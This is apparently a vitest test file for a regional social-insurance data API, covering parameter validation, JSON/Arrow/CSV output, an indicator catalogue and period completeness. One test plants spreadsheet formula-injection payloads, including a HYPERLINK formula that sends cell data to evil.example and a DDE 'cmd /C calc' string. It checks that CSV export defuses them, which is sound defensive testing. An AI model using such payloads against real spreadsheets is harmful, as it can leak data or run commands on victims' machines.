// API contract: formats, parameter validation, catalogue.
import { tableFromIPC } from 'apache-arrow';
import type { Hono } from 'hono';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { signedInApp } from '../support/auth.js';
import { parseCsv } from '../../core/csv.js';
import type { Database } from '../../warehouse/database.js';
import { refreshMarts } from '../../warehouse/refresh.js';
import { collectAll } from '../support/collect.js';
import { freshDb } from '../support/db.js';
import { startFeedServer, type FeedServer } from '../support/feed-server.js';

let db: Database;
let app: Hono;
let source: FeedServer;

// 370102: both uploads on time; 370103: one late; 370104: both late.
const LATE = new Set(['370103|fund', '370104|insured', '370104|fund']);
const uploads = ['370102', '370103', '370104'].flatMap((region) =>
  ['insured', 'fund'].map((dataset) => ({
    id: `${region}|${dataset}`,
    updated_at: '2025-03-05T10:00:00+08:00',
    region_code: region,
    dataset,
    period: '2025-02',
    due_at: '2025-03-10T17:00:00+08:00',
    uploaded_at: LATE.has(`${region}|${dataset}`) ? '2025-03-12T10:00:00+08:00' : '2025-03-05T10:00:00+08:00',
    row_count: 10,
  })),
);

beforeAll(async () => {
  db = await freshDb();
  source = await startFeedServer({ uploads });
  await collectAll(db, source.url, ['uploads']);
  app = await signedInApp(db);
});

afterAll(async () => {
  await source.close();
  db.close();
});

const get = (path: string, headers: Record<string, string> = {}) => app.request(path, { headers });

describe('parameter validation', () => {
  it.each([
    ['/api/values?region=370000', 'metric', "missing required parameter 'metric'"],
    ['/api/values?metric=nope&region=370000', 'metric', "unknown metric 'nope' in parameter 'metric'"],
    ['/api/values?metric=online_rate&region=999999', 'region', "unknown region '999999' in parameter 'region'"],
    ['/api/values?metric=online_rate&region=370000&period_type=week', 'period_type', "parameter 'period_type' must be one of month, quarter, year; got 'week'"],
    ['/api/values?metric=online_rate&region=370000&from=2025-13', 'from', "parameter 'from' must be a month like 2025-06; got '2025-13'"],
    [
      '/api/compare/horizontal?metric=online_rate&parent=370000&period_type=quarter&period=2025-03',
      'period',
      "parameter 'period' must be a quarter like 2025-Q2; got '2025-03'",
    ],
    ['/api/runs?limit=0', 'limit', "parameter 'limit' must be an integer from 1 to 10000; got '0'"],
    // Unknown values of known things are named, not answered with an empty table.
    ['/api/runs?feed=upload', 'feed', "unknown collector 'upload' in parameter 'feed' (one of uploads)"],
    ['/api/quarantine?feed=cases', 'feed', "unknown collector 'cases' in parameter 'feed' (one of uploads)"],
    ['/api/reports/versions?metric=insured', 'metric', "unknown figure 'insured' in parameter 'metric'"],
    ['/api/reports/versions?region=379999', 'region', "unknown region '379999' in parameter 'region'"],
    [
      '/api/scores/indicators?scheme=standard&region=370102&period=2025-03&item=9.9',
      'item',
      "unknown item '9.9' in parameter 'item': no P1 or P2 item of scheme standard has that code",
    ],
    [
      '/api/scores/indicators?scheme=standard&region=370102&period=2025-03&item=J1',
      'item',
      "unknown item 'J1' in parameter 'item': no P1 or P2 item of scheme standard has that code",
    ],
    ['/api/regions?format=xml', 'format', "parameter 'format' must be one of json, arrow, csv, xlsx; got 'xml'"],
    ['/api/runs?feed=nope&format=ods', 'format', "parameter 'format' must be one of json, arrow, csv, xlsx; got 'ods'"],
  ])('%s → 400 naming %s', async (path, _param, message) => {
    const res = await get(path);
    expect(res.status).toBe(400);
    expect(await res.json()).toEqual({ error: message });
  });

  it('takes known values of those filters, an empty one as none', async () => {
    const rows = async (path: string) => {
      const res = await get(path);
      expect(res.status, path).toBe(200);
      return (await res.json()).data.length;
    };
    expect(await rows('/api/runs?feed=uploads')).toBe(1);
    expect(await rows('/api/runs?feed=')).toBe(1);
    const indicators = '/api/scores/indicators?scheme=standard&region=370102&period=2025-03';
    const all = await rows(indicators);
    expect(await rows(`${indicators}&item=`)).toBe(all);
    const p3 = await rows(`${indicators}&item=3`);
    expect(p3).toBeGreaterThan(0);
    expect(p3).toBeLessThan(all);
    expect(await rows(`${indicators}&item=3.5`)).toBeLessThanOrEqual(p3);
  });

  it('answers unknown routes with a JSON 404', async () => {
    const res = await get('/api/nothing');
    expect(res.status).toBe(404);
    expect((await res.json()).error).toBe('no route GET /api/nothing');
  });
});

describe('formats', () => {
  const path = '/api/compare/horizontal?metric=upload_timeliness&parent=370100&period=2025-03';

  it('ranks in JSON', async () => {
    const body = await (await get(path)).json();
    expect(body.data.map((r: { region_code: string; value: number; rank: number }) => [r.region_code, r.value, r.rank])).toEqual([
      ['370102', 100, 1],
      ['370103', 50, 2],
      ['370104', 0, 3],
    ]);
    expect(body.data[0].peer_median).toBe(50);
  });

  it('returns the same values as Arrow IPC', async () => {
    const res = await get(path, { accept: 'application/vnd.apache.arrow.stream' });
    expect(res.headers.get('content-type')).toBe('application/vnd.apache.arrow.stream');
    const table = tableFromIPC(new Uint8Array(await res.arrayBuffer()));
    const json = (await (await get(path)).json()).data as Record<string, unknown>[];
    const arrowRows = table.toArray().map((r) => {
      const o = r.toJSON() as Record<string, unknown>;
      return Object.fromEntries(Object.entries(o).map(([k, v]) => [k, typeof v === 'bigint' ? Number(v) : v]));
    });
    expect(arrowRows).toEqual(json);
  });

  it('returns CSV on request', async () => {
    const res = await get(`${path}&format=csv`);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const lines = (await res.text())
      .replace(/^\ufeff/, '')
      .trim()
      .split('\r\n');
    expect(lines[0]).toBe('region_code,region_name,period_type,period,metric,value,rank,peers,peer_median,gap_to_median,worse_than_median');
    expect(lines[1]).toBe('370102,历下区,month,2025-03,upload_timeliness,100,1,3,50,50,false');
    // 槐荫区 uploaded nothing on time, against a median of 50 %: worse than the median.
    expect(lines[3]).toBe('370104,槐荫区,month,2025-03,upload_timeliness,0,3,3,50,-50,true');
    expect(lines).toHaveLength(4);
  });
});

describe('CSV downloads of hostile data', () => {
  it('write text a spreadsheet would run as a formula as inert text', async () => {
    await db.exec(`INSERT INTO ops_quarantine VALUES
      (0, 'uploads', '=HYPERLINK("http://evil.example/?"&A1,"点此查看")', '+cmd|'' /C calc''!A0', '{}', TIMESTAMP '2025-03-05 10:00:00'),
      (0, 'uploads', '@SUM(1+1)*cmd|'' /C calc''!A0', '-1+1', '{}', TIMESTAMP '2025-03-05 09:00:00')`);
    try {
      const res = await get('/api/quarantine?feed=uploads&format=csv');
      const [header, ...lines] = parseCsv(await res.text());
      expect(header).toEqual(['run_id', 'feed', 'natural_key', 'reason', 'payload', 'quarantined_at']);
      expect(lines.map((r) => r.slice(2, 4))).toEqual([
        ['\'=HYPERLINK("http://evil.example/?"&A1,"点此查看")', "'+cmd|' /C calc'!A0"],
        ["'@SUM(1+1)*cmd|' /C calc'!A0", "'-1+1"],
      ]);
    } finally {
      await db.exec('DELETE FROM ops_quarantine');
    }
  });
});

describe('catalogue', () => {
  it('lists every Appendix A row, 68 indicators in 23 second-level items, marked computed or manual', async () => {
    const { data } = await (await get('/api/catalogue')).json();
    expect(data).toHaveLength(68);
    expect(new Set(data.map((r: { p1: string }) => r.p1))).toEqual(new Set(['事业发展', '业务经办', '基础管理', '科技运用', '公共服务']));
    expect(new Set(data.map((r: { p1: string; p2: string }) => `${r.p1}/${r.p2}`)).size).toBe(23);
    const reg = data.find((r: { code: string }) => r.code === '2.1.2');
    expect(reg).toMatchObject({ name: '限时办结率', source: 'computed', metrics: ['reg_on_time_rate'] });
    expect(data.find((r: { code: string }) => r.code === '5.1.3')).toMatchObject({ name: '服务用语', source: 'manual', metrics: null });
    expect(data.filter((r: { category: string }) => r.category === 'E').map((r: { code: string }) => r.code)).toEqual([
      '1.4.1',
      '1.4.2',
      '1.4.3',
      '1.4.4',
      '1.5.4',
    ]);
  });

  it('carries the standard’s wording, each correction of it noted (8 rows), null notes elsewhere', async () => {
    const { data } = await (await get('/api/catalogue')).json();
    const byCode = new Map<string, { description: string; methods: string; notes: string | null }>(data.map((r: { code: string }) => [r.code, r]));
    expect(byCode.get('5.1.4')?.description).toContain(
      'a) 执行5大项标识牌要求，包括平面导引标志、服务时间标志、当前建筑楼层导引标志、功能区域指示标志、窗口业务标志；',
    );
    expect(byCode.get('2.5.1')).toMatchObject({ methods: '网络监测法、实地核查法', notes: expect.stringContaining('评价方法原文作“网络检测法”') });
    expect(byCode.get('1.1.1')?.notes).toBeNull();
    expect(data.filter((r: { notes: string | null }) => r.notes).map((r: { code: string }) => r.code)).toEqual([
      '2.3.2',
      '2.5.1',
      '3.1.1',
      '3.2.3',
      '3.3.2',
      '5.2.3',
      '5.3.1',
      '5.3.2',
    ]);
  });
});

describe('periods', () => {
  it('marks a month complete only when every expected county has reported for it', async () => {
    const periods = async () => (await (await get('/api/periods?period_type=month')).json()).data;
    const report = (where: string) =>
      db.exec(
        `INSERT INTO raw_report SELECT code, DATE '2025-03-01', 'insured_target', 1, 1, TIMESTAMP '2025-04-05 10:00:00', 0 FROM dim_region WHERE level = 'county' AND ${where}`,
      );
    // The uploads are in, but no county's March report is: March is not complete.
    expect(await periods()).toEqual([{ period: '2025-03', complete: false, is_default: true }]);
    // 3 of the province's counties (and zones) report: still not complete.
    await report("code IN ('370102', '370103', '370104')");
    await refreshMarts(db);
    expect(await periods()).toEqual([{ period: '2025-03', complete: false, is_default: true }]);
    // Every other county reports too: complete.
    await report("code NOT IN ('370102', '370103', '370104')");
    await refreshMarts(db);
    expect(await periods()).toEqual([{ period: '2025-03', complete: true, is_default: true }]);
    await db.exec('DELETE FROM raw_report');
    await refreshMarts(db);
  });
});
